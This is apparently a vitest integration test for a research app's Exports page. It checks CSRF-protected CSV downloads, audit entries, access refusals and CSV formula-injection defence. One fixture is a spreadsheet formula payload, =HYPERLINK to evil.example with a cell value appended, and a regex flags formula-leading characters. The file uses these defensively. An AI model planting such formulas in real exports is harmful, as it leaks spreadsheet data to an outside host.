/**
 * The study's Exports page over HTTP: a researcher downloads every file (each a POST with the CSRF
 * token, each audited with its filter and row count, every cell quoted and formula-safe, erased
 * participants absent); a peer researcher is refused; another organisation cannot tell the study
 * exists. And the audit page names the command line as the actor of the CLI's exports.
 */
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTheme } from "../../app/coding/codebook.server";
import { applyTheme } from "../../app/coding/codings.server";
import { exportCodebook, exportDataDictionary } from "../../app/coding/exports.server";
import { createOrganisation } from "../../app/organisations/people.server";
import { startTestApp, type TestApp } from "../support/app";
import { csrfFrom, makeMember, TEST_PASSWORD, WorkspaceClient } from "../support/workspace";
import { addAnswer, addParticipant, createCodingFixture, withdraw, type CodingFixture } from "./fixtures";

let app: TestApp;
let fx: CodingFixture;
let base: string;
let researcher: WorkspaceClient;
let peer: WorkspaceClient;
let outsider: WorkspaceClient;
let admin: WorkspaceClient;
let researcherId: string;
let themeId: string;

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

beforeAll(async () => {
  app = await startTestApp({ demo: false });
  fx = await createCodingFixture(app.db);
  base = `/research/${fx.orgSlug}/studies/${fx.studySlug}`;
  researcherId = await makeMember(app.db, { organisationId: fx.scope.organisationId, email: "rhian@exports.test", role: "researcher" });
  await makeMember(app.db, { organisationId: fx.scope.organisationId, email: "samir@exports.test", role: "peer_researcher" });
  await makeMember(app.db, { organisationId: fx.scope.organisationId, email: "admin@exports.test", role: "admin" });
  const other = await createOrganisation(app.db, { slug: `other-${fx.orgSlug}`, name: "Another organisation" });
  await makeMember(app.db, { organisationId: other.id, email: "admin@other-exports.test", role: "admin" });
  researcher = new WorkspaceClient(app.url);
  peer = new WorkspaceClient(app.url);
  outsider = new WorkspaceClient(app.url);
  admin = new WorkspaceClient(app.url);
  expect((await researcher.signIn("rhian@exports.test", TEST_PASSWORD)).status).toBe(302);
  expect((await peer.signIn("samir@exports.test", TEST_PASSWORD)).status).toBe(302);
  expect((await outsider.signIn("admin@other-exports.test", TEST_PASSWORD)).status).toBe(302);
  expect((await admin.signIn("admin@exports.test", TEST_PASSWORD)).status).toBe(302);

  const quoted = await addParticipant(app.db, fx, { quotes: true, language: "cy" });
  const gone = await addParticipant(app.db, fx);
  const unit = await addAnswer(app.db, fx, quoted, 'Roedd y gŵr yn garedig, "diolch" 🙂');
  await addAnswer(app.db, fx, quoted, FORMULA, "short_note");
  const goneUnit = await addAnswer(app.db, fx, gone, "ERASED-WORDS");
  themeId = (await createTheme(app.db, fx.scope, null, { name: "-Kindness" })).id;
  await applyTheme(app.db, fx.scope, fx.users.researcher, { unit, themeId, start: 0, end: 20 });
  await applyTheme(app.db, fx.scope, fx.users.researcher, { unit: goneUnit, themeId, start: 0, end: 6 });
  await withdraw(app.db, gone, "erase");
}, 180_000);
afterAll(() => app?.close());

const FILES = ["answers-long.csv", "answers-wide.csv", "data-dictionary.csv", "coded-spans.csv", "codebook.csv"] as const;

/** An RFC 4180 file in which every cell, header included, is quoted. */
const ALL_QUOTED = /^(?:"(?:[^"]|"")*"(?:,|\r\n))+$/;

function decode(bytes: ArrayBuffer) {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
}

async function lastExport() {
  const row = await app.db
    .selectFrom("audit_event")
    .select(["actor_user_id", "subject", "detail"])
    .where("action", "=", "export")
    .where("organisation_id", "=", fx.scope.organisationId)
    .orderBy("id", "desc")
    .executeTakeFirstOrThrow();
  return {
    ...row,
    detail: row.detail as { export: string; rows: number; via: string; filter?: unknown; format?: string; themes?: string[] },
  };
}

describe("the Exports page", () => {
  it("is in the study's navigation for people who may export, and offers every export as a POST form", async () => {
    const page = await researcher.get(`${base}/exports`);
    expect(page.status).toBe(200);
    expect(page.headers.get("cache-control")).toBe("no-store");
    const html = await page.text();
    expect(html).toContain(`href="${base}/exports"`);
    for (const file of FILES) expect(html).toContain(`action="${base}/exports/${file}"`);
    expect(html).toContain(`action="${base}/quotes/qdpx"`);
    expect(html).toContain(`action="${base}/quotes/download?format=csv"`);
    expect(html.toLowerCase()).toContain(`formaction="${base}/quotes/download?format=md"`);
    expect(html.match(/<form method="post"/g)?.length).toBeGreaterThanOrEqual(7);
    // Each form carries the CSRF token.
    expect(html.match(/name="csrf" value="[^"]+"/g)?.length).toBeGreaterThanOrEqual(7);

    const peerStudy = await (await peer.get(`${base}`)).text();
    expect(peerStudy).not.toContain(`href="${base}/exports"`);
  });

  it("downloads each file, formula-safe and fully quoted, without erased participants, and audits it with its filter and row count", async () => {
    const csrf = csrfFrom(await (await researcher.get(`${base}/exports`)).text());
    const expectedRows: Record<(typeof FILES)[number], number> = {
      "answers-long.csv": 2,
      "answers-wide.csv": 1,
      "data-dictionary.csv": 3,
      "coded-spans.csv": 1,
      "codebook.csv": 1,
    };
    for (const file of FILES) {
      const response = await researcher.post(`${base}/exports/${file}`, {}, { csrf });
      expect(response.status, file).toBe(200);
      expect(response.headers.get("content-type")).toContain("text/csv");
      expect(response.headers.get("cache-control")).toBe("no-store");
      expect(response.headers.get("content-disposition")).toMatch(
        new RegExp(`^attachment; filename="${fx.studySlug}-${file.replace(".csv", "")}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
      );
      const body = decode(await response.arrayBuffer());
      expect(body.startsWith("\uFEFF"), file).toBe(true);
      expect(body.slice(1), file).toMatch(ALL_QUOTED);
      expect(body).not.toContain("ERASED");
      const table = Papa.parse<string[]>(body.slice(1).trimEnd()).data;
      expect(table.length - 1, file).toBe(expectedRows[file]);
      for (const row of table) for (const cell of row) expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r\n\0]/);

      const audit = await lastExport();
      expect(audit.actor_user_id).toBe(researcherId);
      expect(audit.subject).toBe(fx.studySlug);
      expect(audit.detail.export).toBe(file.replace(".csv", "").replace(/-/g, "_"));
      expect(audit.detail.via).toBe("workspace");
      expect(audit.detail.filter).toEqual({});
      expect(audit.detail.rows).toBe(expectedRows[file]);
      if (file === "answers-long.csv") {
        expect(body).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
        expect(body).toContain('Roedd y gŵr yn garedig, ""diolch"" 🙂');
      }
      if (file === "codebook.csv") expect(body).toContain(`"'-Kindness"`);
    }
  });

  it("downloads quotes (CSV and Markdown) and the REFI-QDA project from the page's forms, each audited", async () => {
    const csrf = csrfFrom(await (await researcher.get(`${base}/exports`)).text());
    const csv = await researcher.post(`${base}/quotes/download?format=csv`, { theme: themeId, translation: "en" }, { csrf });
    expect(csv.status).toBe(200);
    const body = decode(await csv.arrayBuffer());
    expect(body.slice(1)).toMatch(ALL_QUOTED);
    expect(body).toContain("Roedd y gŵr");
    expect(body).not.toContain("ERASED");
    expect((await lastExport()).detail).toMatchObject({ export: "quotes", format: "csv", themes: [themeId], rows: 1, via: "workspace" });
    const md = await researcher.post(`${base}/quotes/download?format=md`, { theme: themeId }, { csrf });
    expect(await md.text()).toContain("Roedd y gŵr");
    expect((await lastExport()).detail).toMatchObject({ export: "quotes", format: "md", rows: 1 });
    const qdpx = await researcher.post(`${base}/quotes/qdpx`, {}, { csrf });
    expect(qdpx.status).toBe(200);
    expect(
      Buffer.from(await qdpx.arrayBuffer())
        .subarray(0, 4)
        .toString("hex"),
    ).toBe("504b0304");
    expect((await lastExport()).detail).toMatchObject({ export: "qdpx", via: "workspace" });
  });

  it("answers a GET or a POST without the CSRF token with no file and no audit entry", async () => {
    const before = await lastExport();
    expect((await researcher.get(`${base}/exports/answers-long.csv`)).status).toBe(404);
    expect((await researcher.post(`${base}/exports/answers-long.csv`, {})).status).toBe(403);
    const csrf = csrfFrom(await (await researcher.get(`${base}/exports`)).text());
    expect((await researcher.post(`${base}/exports/everything.csv`, {}, { csrf })).status).toBe(404);
    expect(await lastExport()).toEqual(before);
  });

  it("refuses a peer researcher (403) and is 404 to another organisation", async () => {
    const before = await lastExport();
    expect((await peer.get(`${base}/exports`)).status).toBe(403);
    const peerCsrf = await peer.csrf();
    for (const file of FILES) expect((await peer.post(`${base}/exports/${file}`, {}, { csrf: peerCsrf })).status, file).toBe(403);
    expect((await peer.post(`${base}/quotes/qdpx`, {}, { csrf: peerCsrf })).status).toBe(403);

    const page = await outsider.get(`${base}/exports`);
    expect(page.status).toBe(404);
    const outsiderCsrf = await outsider.csrf();
    for (const file of FILES) {
      const response = await outsider.post(`${base}/exports/${file}`, {}, { csrf: outsiderCsrf });
      expect(response.status, file).toBe(404);
      expect(await response.text()).not.toContain("Roedd");
    }
    expect(await lastExport()).toEqual(before);
  });
});

describe("the audit page and the command line", () => {
  it("shows 'Command line' as the actor of the CLI's exports and filters by it", async () => {
    await exportCodebook(app.db, fx.scope, { userId: null, via: "cli" });
    await exportDataDictionary(app.db, fx.scope, { userId: null, via: "cli" });
    const page = await admin.get(`/research/${fx.orgSlug}/audit?action=export`);
    expect(page.status).toBe(200);
    const html = await page.text();
    const rows = [...html.matchAll(/<tr>(.*?)<\/tr>/gs)].map((m) => m[1]!).filter((r) => r.includes("<td>"));
    const cliRows = rows.filter((r) => r.includes("&quot;via&quot;:&quot;cli&quot;") || r.includes('"via":"cli"'));
    expect(cliRows.length).toBe(2);
    for (const row of cliRows) {
      expect(row).toContain("<td>Command line</td>");
      expect(row).not.toContain("—");
    }
    expect(rows.some((r) => r.includes("rhian@exports.test"))).toBe(true);

    const filtered = await (await admin.get(`/research/${fx.orgSlug}/audit?by=cli`)).text();
    expect(filtered).toContain('<option value="cli" selected="">');
    const filteredRows = [...filtered.matchAll(/<tr>(.*?)<\/tr>/gs)].map((m) => m[1]!).filter((r) => r.includes("<td>"));
    expect(filteredRows.length).toBe(2);
    expect(filteredRows.every((r) => r.includes("<td>Command line</td>"))).toBe(true);
    expect(filtered).not.toContain("rhian@exports.test");
  });
});
